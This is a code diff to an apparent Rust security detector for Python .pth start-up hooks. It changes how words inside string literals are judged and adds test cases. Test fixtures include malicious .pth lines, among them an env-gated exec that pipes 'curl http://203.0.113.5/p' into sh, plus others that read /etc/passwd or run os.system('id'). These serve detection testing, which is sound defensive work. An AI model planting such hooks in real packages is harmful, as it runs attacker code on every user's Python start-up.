@@ -11,7 +11,9 @@
 //! | a known shape: one-module imports (`import _virtualenv`, editable finders), the setuptools distutils shim, a setuptools `*-nspkg.pth` namespace line, or a start-up hook that imports a module only when an environment variable is set | Low |
 //! | any other code | Medium |
 //!
-//! Path lines are ignored; a `.pth` in tests or docs weighs as test material. A setuptools
+//! Words of the first two rows count in code only: inside a string literal of the exec'd code
+//! (a message the hook prints when it fails) they are text; `__import__('<module>')`, `\x`
+//! escapes and blobs count wherever they are. Path lines are ignored; a `.pth` in tests or docs weighs as test material. A setuptools
 //! `*-nspkg.pth` line is recognised by its whole template (every identifier one the template
 //! uses, the subpackage `setattr` included), so nothing can ride along. A shipped
 //! `sitecustomize.py`/`usercustomize.py` where `site` imports it from (the archive root, a
@@ -27,7 +29,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "execution.pth-exec",
-    revision: 3,
+    revision: 4,
     title: "Runs code at every Python start-up through a .pth file.",
     category: Category::Execution,
     severity: Severity::High,
@@ -93,10 +95,17 @@ fn judge(line: &str, base: &str) -> (Severity, String) {
     if base.ends_with("-nspkg.pth") && is_nspkg_template(line) {
         return (Severity::Low, "import (namespace package)".to_string());
     }
-    if let Some(m) = EVIL.find(&code) {
+    // A word inside a string literal of the code (a message printed when the hook fails: "…
+    // on your system …") is text, not a call; what builds names or hides bytes counts there too
+    // (`__import__('os')`, `\x` escapes, a blob).
+    let lexed = pysrc::Source::python(&code);
+    let counts = |m: &regex::Match<'_>| {
+        lexed.is_code(m.start()) || m.as_str().starts_with("__import__") || m.as_str().starts_with('\\') || m.len() > 24
+    };
+    if let Some(m) = EVIL.find_iter(&code).find(counts) {
         return (Severity::Critical, format!("import … {}", m.as_str().split('(').next().unwrap_or("")));
     }
-    if let Some(m) = RISKY.find(&code) {
+    if let Some(m) = RISKY.find_iter(&code).find(counts) {
         let what = if m.as_str().len() > 24 { "a blob" } else { m.as_str() };
         return (Severity::High, format!("import … {what}"));
     }
@@ -250,6 +259,10 @@ mod tests {
                 ("env-gated coverage-style hook", "cov.pth", InstallTime, "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from pkg_cov.embed import init\\n  init()\\n except Exception:\\n  pass\\n')\n", Some((1, "import (start-up hook behind an environment variable)", Low))),
                 ("env-gated hook whose literal spawns a process", "x.pth", InstallTime, "import os; exec('if os.environ.get(\"X\"): os.system(\"curl http://203.0.113.5/p | sh\")')\n", Some((1, "import … system", Critical))),
                 ("env-gated hook whose literal reads a file", "x.pth", InstallTime, "import os; exec('if os.environ.get(\"X\"): print(open(\"/etc/passwd\").read())')\n", Some((1, "import … open", High))),
+                ("env-gated hook whose failure message names 'system' and 'open'", "pkg_hook.pth", InstallTime, "import os; exec(\"try:\\n  if 'PKG_HOOK' in os.environ:import pkg;pkg.hook()\\nexcept:print('Hooking pkg failed.\\\\nIf you uninstalled pkg, delete any \\'pkg_hook.pth\\' file on your system or open an issue.'); raise;\")\n", Some((1, "import (start-up hook behind an environment variable)", Low))),
+                ("the same hook whose message hides a call after it", "pkg_hook.pth", InstallTime, "import os; exec(\"try:\\n  if 'PKG_HOOK' in os.environ:import pkg;pkg.hook()\\nexcept:print('on your system'); os.system('id')\")\n", Some((1, "import … system", Critical))),
+                ("a message string then a getattr on it", "pkg_hook.pth", InstallTime, "import os; exec(\"n = 'sys' + 'tem'\\nif 'X' in os.environ: getattr(os, n)('id')\")\n", Some((1, "import … getattr", High))),
+                ("a blob inside a string literal still counts", "pkg_hook.pth", InstallTime, "import os; exec(\"if 'X' in os.environ: import pkg; pkg.k = 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODk='\")\n", Some((1, "import … a blob", High))),
                 ("exec of a non-literal", "x.pth", InstallTime, "import os; exec(os.environ.get('CODE', ''))\n", Some((1, "import … exec", Critical))),
                 ("paths only", "x.pth", InstallTime, "/opt/lib\n../src\n", None),
                 ("python file with import", "pkg/a.py", Runtime, "import os\n", None),
